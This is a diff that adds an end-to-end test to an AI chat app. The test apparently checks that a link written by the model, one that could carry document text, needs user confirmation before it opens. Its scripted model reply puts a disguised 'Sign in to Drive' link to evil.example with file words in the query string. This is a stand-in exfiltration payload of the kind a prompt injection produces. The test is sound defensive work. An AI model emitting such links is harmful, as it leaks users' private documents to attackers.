@@ -197,3 +197,36 @@ async def test_a_link_that_no_tool_gave_is_told_apart(visit: Visit, leaf: Produc
     await chat.answer.locator(".cited summary").click()
     await expect(chat.answer.locator(".cited li")).to_contain_text("Unverified: no search, page, file or message")
     await check(chat.page)
+
+
+@pytest.mark.usefixtures("scripted")
+async def test_a_link_that_may_hold_text_of_documents_asks_before_it_opens(visit: Visit, leaf: Product) -> None:
+    """With the whole address. One that a source has spelled so opens at once. # 000-35"""
+    file = f"{leaf.sandbox_url}/drive/file/d/{bundled.id_of(AGREEMENT)}/view"
+    address = "https://evil.example/in?word=trays%20of%20plum"
+    steps = script(
+        {"text": "", "calls": [_call("read_drive_file", file=file)]},
+        {"text": f"[Sign in to **Drive**]({address}), or see [the file]({file})."},
+    )
+    visitor = await visit("ada")
+    chat = await visitor.new_chat()
+    asked: list[str] = []
+    await chat.page.context.route(
+        re.compile("//evil\\.example"), lambda route: (asked.append(route.request.url), route.fulfill(body="x"))[1]
+    )
+    await chat.ask(steps.replace("evil", "\\u0065vil"))
+    await chat.finished()
+    await expect(chat.answer.locator(".md a:visible")).to_have_text(["the file"])
+    await chat.answer.get_by_role("button", name="Sign in to Drive").click()
+    question = chat.page.get_by_role("dialog", name="This address was put together by a model")
+    await expect(question).to_contain_text(address)
+    await check(chat.page)
+    await chat.page.keyboard.press("Escape")
+    await expect(question).to_be_hidden()
+    assert asked == []
+    await chat.answer.get_by_role("button", name="Sign in to Drive").click()
+    async with chat.page.context.expect_page() as opened:
+        await question.get_by_role("link", name="Open anyway").click()
+    await (await opened.value).wait_for_load_state()
+    assert asked == [address]
+    visitor.guard.requests.remove(address)
